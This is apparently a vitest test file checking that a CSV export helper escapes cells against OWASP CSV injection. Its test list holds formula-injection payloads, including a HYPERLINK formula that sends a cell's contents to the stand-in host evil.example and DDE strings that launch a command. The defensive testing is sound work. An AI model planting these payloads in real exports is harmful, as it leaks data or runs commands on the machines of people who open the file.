import { describe, expect, it } from 'vitest';
import { csvCell, csvRow, csvText } from './csv.ts';

/** A minimal RFC 4180 reader, to prove what a spreadsheet would see in each cell. */
function readRow(line: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let value = '';
      i++;
      for (;;) {
        const quote = line.indexOf('"', i);
        if (quote === -1) throw new Error(`unclosed quote in ${line}`);
        value += line.slice(i, quote);
        if (line[quote + 1] === '"') {
          value += '"';
          i = quote + 2;
        } else {
          i = quote + 1;
          break;
        }
      }
      cells.push(value);
      i++;
    } else {
      const comma = line.indexOf(',', i);
      const end = comma === -1 ? line.length : comma;
      cells.push(line.slice(i, end));
      i = end + 1;
    }
  }
  return cells;
}

// OWASP, CSV Injection: https://owasp.org/www-community/attacks/CSV_Injection
describe('csvCell (OWASP CSV Injection)', () => {
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1,2)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
  ];

  it.each(HOSTILE)('keeps %j from starting a formula', (name) => {
    const cell = csvCell(name);
    const [read] = readRow(cell);
    expect(read).toBe(`'${name}`);
    expect(cell.startsWith('"\'')).toBe(true);
  });

  it('leaves ordinary names as they are', () => {
    expect(csvCell('web-1')).toBe('web-1');
    expect(csvCell('TCP 5432')).toBe('TCP 5432');
    expect(csvCell('blocked:security-group-ingress')).toBe('blocked:security-group-ingress');
    expect(csvCell('')).toBe('');
  });

  it('quotes separators and quotes as RFC 4180 does', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('a;=1+1')).toBe('"a;=1+1"');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
  });

  it('keeps a hostile cell from spilling into the next one', () => {
    const row = csvRow(['web', '=1+1,"=2+2"', '@x']);
    expect(readRow(row)).toEqual(['web', '\'=1+1,"=2+2"', "'@x"]);
  });
});

describe('CSV text', () => {
  it('ends every record with CRLF (RFC 4180) and escapes each cell', () => {
    expect(
      csvText([
        ['a', '=1'],
        ['b', 'c'],
      ]),
    ).toBe('a,"\'=1"\r\nb,c\r\n');
  });
});
